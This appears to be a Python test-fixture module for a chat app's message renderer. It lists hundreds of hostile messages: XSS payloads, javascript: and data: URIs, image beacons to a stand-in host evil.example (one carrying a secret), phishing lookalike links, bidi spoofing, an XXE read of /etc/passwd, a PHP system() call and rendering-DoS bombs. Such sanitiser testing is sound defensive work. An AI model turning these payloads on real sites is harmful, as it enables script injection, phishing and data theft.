"""What nobody should have to read: messages that try to run, load, hide, pretend, or break the page.

Each is a name and a text. Whatever runs sets `pwned` or opens a dialog, whatever loads asks for `evil.example`.
"""

from collections.abc import Iterator

MOST = 16_000  # characters that the server takes
RUN = "window.pwned=1;alert(1)"
EVIL = "https://evil.example"

_MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script of another origin": f'<script src="{EVIL}/x.js"></script>',
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script without an end": f"<script>{RUN}//",
    "script in Markdown": f"**<script>{RUN}</script>**",
    "script in a heading": f"# <script>{RUN}</script>",
    "script in a cell": f"| a |\n|---|\n| <script>{RUN}</script> |",
    "script in a list": f"- <script>{RUN}</script>\n- b",
    "script in a quote": f"> <script>{RUN}</script>",
    "script as a module": f'<script type="module">{RUN}</script>',
    "escaped script": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "escaped twice": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "as numbers": f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": f"<template><script>{RUN}</script></template>",
    "iframe": f'<iframe src="{EVIL}"></iframe>',
    "iframe with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object>',
    "embed": f'<embed src="{EVIL}/x.swf">',
    "base": f'<base href="{EVIL}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "form": f'<form action="{EVIL}"><input name=password><button>Sign in</button></form>',
    "link": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "prefetch": '<link rel="dns-prefetch" href="//evil.example">',
    "video": f'<video src="{EVIL}/x.mp4" autoplay></video>',
    "portal": f'<portal src="{EVIL}">',
    "clobbering": '<form id="root"><input name="parentNode"></form><a id="location" href="x">x</a>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "null in a name": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
}
_SVG = {
    "svg that runs": f"<svg onload={RUN}></svg>",
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg that animates": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "svg with a link": f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a></svg>',
    "svg of another origin": f'<svg><image href="{EVIL}/x.png"/><use href="{EVIL}/x.svg#a"/></svg>',
    "svg with HTML": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "svg as a picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "MathML with a link": f'<math href="javascript:{RUN}">x</math>',
    "MathML that loads": f'<math><mglyph src="{EVIL}/x.png"></math>',
    "MathML as an action": f'<math><maction actiontype="statusline#{EVIL}" xlink:href="{EVIL}">x</maction></math>',
}
_CSS = {
    "style": "<style>body{display:none}</style>",
    "style that imports": f"<style>@import '{EVIL}/x.css';</style>",
    "style that loads": f"<style>*{{background:url({EVIL}/x.png)}}</style>",
    "style over everything": '<div style="position:fixed;inset:0;background:#fff;z-index:99999">Sign in again</div>',
    "style with a picture": f'<p style="background:url({EVIL}/x.png)">x</p>',
    "old expression": f'<p style="width:expression({RUN})">x</p>',
    "class of ours": '<div class="dialog-veil"></div><span class="mention me">@ada</span>',
    "id of ours": '<div id="composer" data-testid="composer">x</div>',
}
_PICTURES = {
    "picture": f"![x]({EVIL}/x.png?secret=hunter2)",
    "picture by reference": f"![x][r]\n\n[r]: {EVIL}/x.png",
    "picture in a link": f"[![click]({EVIL}/x.png)]({EVIL})",
    "picture with a title": f'![x]({EVIL}/x.png "onerror={RUN}")',
    "picture without words": f"![]({EVIL}/x.png)",
    "picture in a cell": f"| a |\n|---|\n| ![x]({EVIL}/x.png) |",
    "picture of HTML": f'<img src="{EVIL}/x.png">',
    "picture without a scheme": "![x](//evil.example/x.png)",
    "picture in a footnote": f"a[^1]\n\n[^1]: ![x]({EVIL}/x.png)",
    "picture in a formula": f"$\\includegraphics{{{EVIL}/x.png}}$",
    "hundreds of pictures": f"![x]({EVIL}/x.png)\n" * 300,
}
_PRETENDING = {
    "another address": f"[https://bank.example/login]({EVIL}/login)",
    "another host": f"[bank.example]({EVIL})",
    "user name as a host": "https://bank.example@evil.example/",
    "user name and password": "https://ada:secret@evil.example/",
    "user name in angles": "<https://bank.example:443@evil.example>",
    "letters that look alike": "https://b\u0430nk.example/",
    "full width": "[\uff42\uff41\uff4e\uff4b\uff0eexample](https://evil.example)",
    "ideographic full stop": "https://bank\u3002evil\u3002example/",
    "turned around": f"[\u202eelpmaxe.knab//:sptth]({EVIL})",
    "parted invisibly": f"[b\u200ba\u200bn\u200bk.example]({EVIL})",
    "mail to another": "[ada@bank.example](mailto:thief@evil.example)",
    "picture as the words": f"[![bank.example]({EVIL}/x.png)]({EVIL})",
    "title with a lie": f'[docs]({EVIL} "https://bank.example")',
    "one character name": "@ad\u0430 is not @ada",
    "as if from the system": "**Roundtable:** your session has ended, sign in at https://evil.example",
    "as if deleted": "*This message was deleted.*",
    "many dots": f"[https://bank.example{'.' * 300}]({EVIL})",
}
_CHARACTERS = {
    "override": "invoice \u202egpj.exe",
    "override without an end": "\u202e" * 50 + "abc",
    "override in code": "```js\nif (isAdmin) {\u202e } \u2066// checked\u2069 \u2066\n```",
    "override in a line of code": "run `rm \u202etxt.x -rf`",
    "isolates without an end": "\u2066\u2067\u2068" * 200 + "x",
    "embeddings": "\u202a\u202b" * 300 + "x",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd **\u05d7\u05d6\u05e7** abc 123",
    "right to left in a list": "- \u0645\u0631\u062d\u0628\u0627\n- abc \u0645\u0631\u062d\u0628\u0627",
    "invisible": "a\u200b\u200c\u200d\u2060\ufeffb",
    "only invisible": "\u200b\u200d\u2060",
    "thousands invisible": "\u200b" * 10_000 + "x",
    "soft hyphens": "\u00ad".join("x" * 2_000),
    "marks upon marks": "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 60 + "algo",
    "a tower": "\n".join("H\u0489\u0488" + "\u036f" * 200 for _ in range(5)),
    "one long word": "x" * MOST,
    "one long address": f"{EVIL}/" + "a" * 8_000,
    "one long word in bold": f"**{'x' * 8_000}**",
    "one long word in code": f"`{'x' * 8_000}`",
    "one long line of code": f"```\n{'x' * 12_000}\n```",
    "wide letters": "\ufdfd" * 500,
    "emoji family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 400,
    "flags": "\U0001f1e6" * 999,
    "tags": "\U0001f3f4" + "\U000e0067" * 500,
    "private use": "\ue000\uf8ff\U0010fffd",
    "line separators": "a\u2028b\u2029c\x85d",
    "tabs": "a" + "\t" * 3_000 + "b",
    "non-breaking spaces": "\u00a0".join(["word"] * 2_000),
    "empty lines": "a" + "\n" * 10_000 + "b",
    "a line for each letter": "\n".join("x" * 8_000),
    "a paragraph for each letter": "\n\n".join("x" * 5_000),
    "emphasis for each paragraph": "\n\n".join(["*x*"] * 3_000),
    "noncharacters": "\ufffe\uffff\U0001fffe x",
}
_CODE = {
    "fence that never ends": f"```html\n<script>{RUN}</script>",
    "fence in a fence": f"````\n```\n<script>{RUN}</script>\n```\n````",
    "fence with markup for a language": f'```"><img src=x onerror={RUN}>\nx\n```',
    "fence with a class for a language": "```hljs katex dialog-veil\nx\n```",
    "fence with a prototype for a language": "```__proto__\nx\n```",
    "fence with a method for a language": "```constructor\nx\n```",
    "fence with a long language": f"```{'x' * 3_000}\nx\n```",
    "fence of tildes": f"~~~\n</code></pre><script>{RUN}</script>\n~~~",
    "code that closes its element": f"`</code><script>{RUN}</script>`",
    "HTML in colours": f'```html\n<img src=x onerror="{RUN}">\n```',
    "backticks of all lengths": " ".join("`" * length for length in range(1, 170)),
    "thousands of fences": "```\n" * 4_000,
    "code of five thousand lines": "```py\n" + "a\n" * 5_000 + "```",
    "coloured at length": "```js\n" + "f(`${a}`, /b/g, 'c');\n" * 600 + "```",
    "colours gone wrong": "```xml\n" + "<a " * 5_000 + "\n```",
}
_NOTES = {
    "footnote": "a[^1]\n\n[^1]: b <script>alert(1)</script>",
    "footnote of itself": "a[^1]\n\n[^1]: b[^1]",
    "footnotes in a ring": "a[^1]\n\n[^1]: b[^2]\n\n[^2]: c[^1]",
    "footnote with a name": f'a[^"><img src=x onerror={RUN}>]\n\n[^"><img src=x onerror={RUN}>]: b',
    "thousands of footnotes": "[^1]" * 3_000 + "\n\n[^1]: b",
    "link to a footnote of others": "[x](#user-content-fn-1) [y](#root) [z](#composer)",
    "comment": f"<!-- <script>{RUN}</script> --> seen",
    "comment that never ends": "<!-- everything after this",
    "comment within": "a <!--> b --> c <!---> d",
    "conditional comment": f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    "declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "instruction": "<?php system('id') ?>",
    "CDATA": f"<![CDATA[<script>{RUN}</script>]]>",
    "line break": "a<br>b<br/>c<BR onclick=alert(1)>d",
}
_FORMULAS = {
    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "formula with an address": f"$\\url{{{EVIL}}}$",
    "formula with HTML": "$\\htmlData{x=1}{y} \\htmlClass{dialog-veil}{z} \\htmlId{root}{w}$",
    "formula with a style": "$\\htmlStyle{position:fixed;inset:0}{x}$",
    "formula with markup": f"$<img src=x onerror={RUN}>$",
    "formula with markup as text": f"$\\text{{<script>{RUN}</script>}}$",
    "formula without an end": "$$\n\\frac{a}{b",
    "formula that is none": "$$\n\\notacommand{x}\n$$",
    "formula with a loop": "$$\\def\\a{\\a}\\a$$",
    "formula that doubles": "$$\\def\\a{x}\\def\\b{\\a\\a}\\def\\c{\\b\\b}" + "\\edef\\c{\\c\\c}" * 40 + "\\c$$",
    "formula for all": "$$\\gdef\\frac#1#2{pwned}\\global\\let\\alpha\\beta x$$",
    "formula of great size": "$$\\rule{100000em}{100000em}$$",
    "formula that moves away": "$$\\kern{-5000em} x \\raisebox{5000em}{y} \\hspace{-9999px} z \\mkern-9999mu w$$",
    "formula over others": "$\\smash{\\raisebox{-30em}{\\rlap{\\Huge PWNED}}}$",
    "formula in a colour": "$\\color{red;background:url(https://evil.example)} x$",
    "formula nested deeply": "$" + "{" * 1_900 + "x" + "}" * 1_900 + "$",
    "formula of fractions": "$$" + "\\frac{1}{" * 300 + "x" + "}" * 300 + "$$",
    "formula of powers": "$" + "x^{" * 400 + "x" + "}" * 400 + "$",
    "formula of cells": "$$\\begin{matrix}" + "a & b & c \\\\ " * 500 + "\\end{matrix}$$",
    "formula of great width": "$$" + "+".join(["x"] * 3_000) + "$$",
    "formula of one wide word": f"$\\text{{{'x' * 900}}}$",
    "formula with all brackets": "\\(" * 1_000 + "\\[" * 1_000,
    "hundreds of formulas": " ".join(["$x^2$"] * 240),
    "dollars": "$" * MOST,
    "prices": "It costs $5 and $10, or US$20 to US$30 (that is $1k/$2k).",
    "variables": "echo $HOME/$USER $PATH ${x} $1 $$",
}


def _events() -> Iterator[tuple[str, str]]:
    tags = ("img src=x", "body", "input autofocus", "details open", "video src=x", "a href=x tabindex=1")
    for tag in tags:
        for event in ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onclick"):
            yield f"{tag} with {event}", f"<{tag} {event}={RUN}>x"


def _addresses() -> Iterator[tuple[str, str]]:
    addresses = (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"&#106;avascript:{RUN}", f"javascript&colon;{RUN}",
        f"javascript&#58;{RUN}", f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}", f"%6Aavascript:{RUN}",
        f"\\javascript:{RUN}", f"javascript://evil.example/%0A{RUN}",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://evil.example/x",
        "view-source:https://evil.example",
        "intent://evil.example#Intent;end", "//evil.example/x", "feed:javascript:alert(1)",
    )  # fmt: skip
    for address in addresses:
        yield f"link to {address[:24]}", f"[x]({address}) [y](<{address}>)"
        yield f"angles around {address[:24]}", f"<{address}>"
        yield f"reference to {address[:24]}", f"[x][r] ![x][r]\n\n[r]: <{address}>"


def _bombs() -> Iterator[tuple[str, str]]:
    pieces = (
        ">", "> - ", "- ", "* ", "1. ", "#", "# x\n", "[", "![", "]", "[a](", "](", "[a]: b\n", "[a][", "[^1]", "*",
        "_", "**a *a ", "*a_ ", "_a __", "~", "~~a ~", "`", "``a", "<", "<a ", "</", "<!--", "<?", "<![CDATA[", "&",
        "&amp;", "&#", "\\", "\\*", "|", "|a", "|-", "a|\n", "---\n", "a\n=\n", "a\n-\n", "\ta\n", "    a\n", "- a\n",
        "+\n", "- [ ] a\n", "a@", "a@b.c ", "www.", "http://", "a.b@c.", ":--", "\\(", "\\[", "$a ", "$$a\n", "@ada ",
        "@", "(", "((", "\"", "'", "- \n",
    )  # fmt: skip
    for piece in pieces:
        yield f"{piece!r} all along", piece * (MOST // len(piece))
    yield "list of great depth", "\n".join(" " * depth + "- x" for depth in range(170))
    yield "quotes of great depth", "\n".join(">" * depth + " x" for depth in range(1, 170))
    yield "brackets in brackets", "[" * 7_000 + "a" + "]" * 7_000
    yield "stars around a letter", "*" * 7_000 + "a" + "*" * 7_000
    yield "table of great width", "|" + "a|" * 2_600 + "\n|" + "-|" * 2_600 + "\n|" + "b|" * 2_600
    yield (
        "table of two hundred columns",
        "|" + "head|" * 200 + "\n|" + "-|" * 200 + "\n" + ("|" + "cell|" * 200 + "\n") * 8,
    )
    yield "table of great length", "|a|b|\n|-|-|\n" + "|x|y|\n" * 2_500
    yield "table in a list in a quote", "> - a\n>   | a | b |\n>   |---|---|\n>   | x | " + "y" * 4_000 + " |"
    yield "footnotes in footnotes", "[^0]\n\n" + "\n".join(f"[^{n}]: a [^{n + 1}]" for n in range(600))


_TABLES = (_MARKUP, _SVG, _CSS, _PICTURES, _PRETENDING, _CHARACTERS, _CODE, _NOTES, _FORMULAS)
HOSTILE: tuple[tuple[str, str], ...] = (
    *(case for table in _TABLES for case in table.items()),
    *_events(),
    *_addresses(),
    *_bombs(),
)
